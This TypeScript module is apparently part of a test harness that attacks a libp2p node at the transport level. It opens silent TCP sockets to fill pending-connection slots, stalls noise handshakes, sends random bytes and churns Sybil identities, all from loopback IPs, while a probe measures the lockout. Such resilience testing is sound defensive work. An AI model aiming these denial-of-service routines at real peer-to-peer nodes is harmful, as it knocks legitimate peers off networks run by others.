/**
 * Transport-level attacks: raw TCP sockets that hold the target's incoming-pending slots, handshakes
 * that never finish, garbage instead of multistream-select, and connection churn by Sybils.
 */
import { connect, type Socket } from 'node:net'
import { type AttackContext, defineAttack, loops } from '../attack.js'
import { HostilePool } from '../hostile-node.js'
import { between, concat, lp, noise, pause, utf8 } from '../wire.js'

/** Opens a raw TCP connection from `localAddress` (bounded); resolves once connected. */
export function rawConnect(
  host: string,
  port: number,
  localAddress: string,
  timeoutMs = 3000,
): Promise<Socket> {
  return new Promise((resolve, reject) => {
    const socket = connect({ host, port, localAddress })
    const timer = setTimeout(() => {
      socket.destroy()
      reject(new Error(`raw connect timed out after ${timeoutMs} ms`))
    }, timeoutMs)
    socket.once('connect', () => {
      clearTimeout(timer)
      resolve(socket)
    })
    socket.once('error', (err) => {
      clearTimeout(timer)
      socket.destroy()
      reject(err)
    })
  })
}

/**
 * How long a fresh dial from an IP the attack does not use takes to complete a full libp2p handshake
 * (noise + yamux), while the attack runs: the lockout a legitimate peer sees. Undefined: it failed.
 */
async function probeHandshake(ctx: AttackContext, probeIp: string): Promise<number | undefined> {
  const pool = new HostilePool([probeIp])
  const started = Date.now()
  try {
    const node = await pool.spawn({ dialTimeoutMs: 5000 })
    await node.dial(ctx.target.tcp)
    return Date.now() - started
  } catch (err) {
    ctx.tally.error(err)
    return undefined
  } finally {
    await pool.stopAll()
  }
}

/** Runs `probeHandshake` every 2 s during the attack and tallies the results. */
async function probeDuringAttack(ctx: AttackContext, probeIp: string): Promise<void> {
  await pause(1000, ctx.signal)
  while (!ctx.signal.aborted) {
    const ms = await probeHandshake(ctx, probeIp)
    if (ms === undefined) ctx.tally.inc('probe_failed')
    else {
      ctx.tally.inc('probe_ok')
      ctx.tally.max('max_probe_ms', ms)
    }
    await pause(2000, ctx.signal)
  }
}

/**
 * Keeps `count` sockets open from `ip`, reopening those the target closes, at most `perSecond` new ones a
 * second (libp2p closes a host's connections beyond its inboundConnectionThreshold at once: paced
 * below it, each one is accepted and held until the target's inbound upgrade timeout). Tallies how long
 * the target let each live.
 */
async function holdSockets(
  ctx: AttackContext,
  ip: string,
  count: number,
  onOpen: (socket: Socket) => void = () => {},
  perSecond = 4,
): Promise<void> {
  const open = new Set<Socket>()
  const { tally } = ctx
  let nextSlot = Date.now()
  const paced = async () => {
    const now = Date.now()
    const at = Math.max(now, nextSlot)
    nextSlot = at + 1000 / perSecond
    if (at > now) await pause(at - now, ctx.signal)
  }
  await loops(count, ctx.signal, tally, async () => {
    await paced()
    if (ctx.signal.aborted) return
    const socket = await rawConnect(ctx.target.host, ctx.target.tcpPort, ip)
    tally.inc('sockets_opened')
    open.add(socket)
    tally.max('max_sockets_open', open.size)
    const opened = Date.now()
    socket.on('error', () => {})
    socket.on('data', (d) => tally.received(d.length))
    onOpen(socket)
    await new Promise<void>((resolve) => {
      const done = () => {
        ctx.signal.removeEventListener('abort', done)
        resolve()
      }
      socket.once('close', () => {
        if (!ctx.signal.aborted) {
          const lived = Date.now() - opened
          tally.inc(lived < 500 ? 'sockets_refused_at_once' : 'sockets_closed_by_target')
          tally.max('max_socket_lifetime_ms', lived)
        }
        done()
      })
      ctx.signal.addEventListener('abort', done, { once: true })
    })
    if (ctx.signal.aborted && !socket.destroyed) tally.inc('sockets_held_to_end')
    open.delete(socket)
    socket.destroy()
  })
  for (const s of open) s.destroy()
}

/**
 * Many silent TCP connections from one IP (127.0.0.2 by default), never sending a byte: they hold the
 * incoming-pending slots (maxIncomingPendingConnections) until the inbound upgrade times out. A probe
 * from another, unused IP measures whether a legitimate peer still gets in.
 */
export const tcpSilent = defineAttack(
  'tcp-silent',
  'silent TCP connections from one IP holding the incoming-pending slots; a probe from another IP measures the lockout',
  async (ctx) => {
    const ip = ctx.sourceIps[0]
    await Promise.all([holdSockets(ctx, ip, ctx.scaled(20)), probeDuringAttack(ctx, '127.0.0.250')])
  },
)

/** multistream-select framing: `lp("<line>\n")`. */
const msLine = (line: string) => lp(utf8(`${line}\n`))

/**
 * Connections that start the handshake and never finish it: multistream-select for /noise, then half of
 * the first noise message, then nothing. From several IPs (spread over the per-host limits).
 */
export const noiseStall = defineAttack(
  'noise-stall',
  'multistream-select + half a noise message, then silence, from several IPs',
  async (ctx) => {
    const per = ctx.scaled(8)
    const ips = ctx.sourceIps.slice(1, 5)
    await Promise.all([
      ...ips.map((ip) =>
        holdSockets(ctx, ip, per, (socket) => {
          const first = concat([msLine('/multistream/1.0.0'), msLine('/noise')])
          // noise XX message 1 is 32 bytes (ephemeral key) with a 2-byte length: send the length and 10
          const partial = concat([Uint8Array.from([0, 32]), noise(10)])
          socket.write(first)
          ctx.tally.sent(first.length)
          setTimeout(() => {
            if (!socket.destroyed) {
              socket.write(partial)
              ctx.tally.sent(partial.length)
            }
          }, 100).unref()
        }),
      ),
      probeDuringAttack(ctx, '127.0.0.251'),
    ])
  },
)

/** Random bytes instead of multistream-select, from rotating IPs, as fast as the target takes them. */
export const tcpGarbage = defineAttack(
  'tcp-garbage',
  'random bytes (1 B to 64 KiB) instead of a handshake, from rotating IPs',
  async (ctx) => {
    let n = 0
    await loops(ctx.scaled(4), ctx.signal, ctx.tally, async () => {
      const ip = ctx.sourceIps[n++ % ctx.sourceIps.length]
      const socket = await rawConnect(ctx.target.host, ctx.target.tcpPort, ip)
      ctx.tally.inc('sockets_opened')
      const bytes = noise(between(1, 64 * 1024))
      socket.on('data', (d) => ctx.tally.received(d.length))
      socket.on('error', () => {})
      socket.write(bytes)
      ctx.tally.sent(bytes.length)
      const closed = await new Promise<boolean>((resolve) => {
        const t = setTimeout(() => resolve(false), 3000)
        socket.once('close', () => {
          clearTimeout(t)
          resolve(true)
        })
      })
      ctx.tally.inc(closed ? 'closed_by_target' : 'still_open_after_3s')
      socket.destroy()
    })
  },
)

/**
 * Sybil churn: a fresh identity dials, completes the handshake, lets identify run, and hangs up; again
 * and again from rotating IPs. Their identify answers name a sentinel as their listen address, so dials
 * back to them (peer cache, bootstrap, clustering) are seen.
 */
export const connChurn = defineAttack(
  'conn-churn',
  'fresh Sybil identities connecting and hanging up (full handshake + identify), rotating source IPs',
  async (ctx) => {
    const home = await ctx.sentinels.open('attacker:conn-churn')
    const pool = new HostilePool(ctx.sourceIps)
    try {
      await loops(ctx.scaled(4), ctx.signal, ctx.tally, async () => {
        const node = await pool.spawn({ announce: [home.tcp] })
        try {
          const connection = await node.dial(ctx.target.tcp, ctx.tally, ctx.signal)
          await pause(between(50, 400), ctx.signal)
          await connection.close().catch(() => {})
        } finally {
          await pool.stop(node)
        }
      })
    } finally {
      await pool.stopAll()
    }
  },
)
